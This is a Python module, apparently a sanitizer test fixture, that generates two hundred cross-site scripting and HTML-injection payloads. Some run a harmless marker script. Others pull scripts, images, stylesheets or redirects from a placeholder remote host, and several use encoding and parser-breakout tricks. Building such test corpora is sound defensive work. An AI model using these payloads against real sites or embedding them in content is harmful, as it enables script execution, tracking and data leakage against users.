"""Two hundred ways in which words from outside try to become a script or a request"""

from __future__ import annotations

import itertools

HIT = "window.__hit=1"
REMOTE = "http://198.51.100.7"

_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "oncontentvisibilityautostatechange")  # fmt: skip
_TAGS = (
    "<img src=x {e}={h}>", "<svg {e}={h}>", "<body {e}={h}>", "<details open {e}={h}>", "<input autofocus {e}={h}>", "<video src=x {e}={h}>",
    "\"><img src=x {e}='{h}'>", "'><svg/{e}={h}>", "</mark><img src=x {e}={h}>", "</script><svg {e}={h}>", "<iframe srcdoc='<img src=x {e}={h}>'>",
)  # fmt: skip
_LONE = (
    "<script>{h}</script>", "<ScRiPt>{h}</sCrIpT>", "<script src={r}/a.js></script>", "<script type=module>{h}</script>", "<<script>{h}//<</script>",
    "<img src={r}/pixel.gif>", "![chart]({r}/a.png)", "[click](javascript:{h})", "![a][b]\n\n[b]: {r}/ref.png", "<link rel=stylesheet href={r}/a.css>",
    "<style>@import '{r}/a.css';</style>", "<meta http-equiv=refresh content='0;url={r}'>", "<base href={r}/>", "<form action={r}><button>Go</button></form>",
    "<a href='javascript:{h}'>open</a>", "<object data='data:text/html,<script>{h}</script>'></object>", "<embed src='{r}/a.swf'>", "<iframe src='{r}'></iframe>",
    "<iframe src='javascript:{h}'></iframe>", "<svg><use href='{r}/a.svg#x'/></svg>", "<svg><script>{h}</script></svg>", "<math><mtext></mtext><mglyph><style><img src=x onerror={h}>",
    "{{{{7*7}}}}{{{{{h}}}}}", "{{% raw %}}<script>{h}</script>{{% endraw %}}", "${{{h}}}", "&lt;script&gt;{h}&lt;/script&gt;", "&#60;script&#62;{h}&#60;/script&#62;",
    "%3Cscript%3E{h}%3C/script%3E", "\\u003cscript\\u003e{h}\\u003c/script\\u003e", "\u202e<script>{h}</script>", "<img src=x\tonerror\n=\n{h}>", "<img/src=x/onerror={h}>",
    "javascript:{h}", "data:text/html,<script>{h}</script>", "<!--><script>{h}</script>-->", "<![CDATA[<script>{h}</script>]]>", "<noscript><p title='</noscript><img src=x onerror={h}>'>",
    "<template><script>{h}</script></template>", "<textarea><img src=x onerror={h}></textarea>", "</textarea><script>{h}</script>", "</title><script>{h}</script>",
    "</pre><script>{h}</script>", "</summary><script>{h}</script>", "' autofocus onfocus={h} x='", "\" style=\"background:url({r}/x)\" x=\"", "` onmouseover={h}",
    "<img srcset='{r}/a.png 1x'>", "<picture><source srcset={r}/a.png></picture>", "<video poster={r}/a.png>", "<audio src={r}/a.mp3 autoplay>", "<track src={r}/a.vtt>",
    "<input type=image src={r}/a.png>", "<body background={r}/a.png>", "<table background={r}/a.png>", "<div style='background:url({r}/a.png)'>", "<object data={r}/a></object>",
    "<link rel=preload as=image href={r}/a.png>", "<link rel=dns-prefetch href={r}>", "<a ping={r} href=#>x</a>", "<button formaction=javascript:{h}>x</button>",
    "<isindex action=javascript:{h}>", "<marquee onstart={h}>x</marquee>", "<svg><animate onbegin={h} attributeName=x dur=1s>", "<svg><set onbegin={h} attributename=x>",
    "<xmp><img src=x onerror={h}></xmp>", "<plaintext><script>{h}</script>", "<img src=x onerror=\"{h}\" alt=\"", "<a href=\" javascript:{h}\">x</a>", "<a href=\"java\nscript:{h}\">x</a>",
    "<svg><a xlink:href='javascript:{h}'><text>x</text></a></svg>", "<svg><image href='{r}/a.png'/></svg>", "<svg><foreignObject><img src=x onerror={h}></foreignObject></svg>",
    "<math href='javascript:{h}'>x</math>", "<dialog open onclose={h}><form method=dialog><button>x", "<select autofocus onfocus={h}>", "<keygen autofocus onfocus={h}>",
    "<frameset onload={h}>", "<applet code={r}>", "<bgsound src={r}/a>", "<layer src={r}>", "<ilayer src={r}>", "<xss id=x tabindex=1 onfocus={h}>", "<custom-el onclick={h}>x</custom-el>",
    "</style><script>{h}</script>", "</option></select><script>{h}</script>", "]]><script>{h}</script>", "--><script>{h}</script>", "\x00<script>{h}</script>", "\ufeff<script>{h}</script>",
    "<script\x0b>{h}</script>", "<script/x>{h}</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """Two hundred payloads; a run script sets `window.__hit`, a fetch goes to another host."""
    made = [tag.format(e=e, h=HIT) for tag, e in itertools.product(_TAGS, _EVENTS)]
    return [*(one.format(h=HIT, r=REMOTE) for one in _LONE), *made][:200]
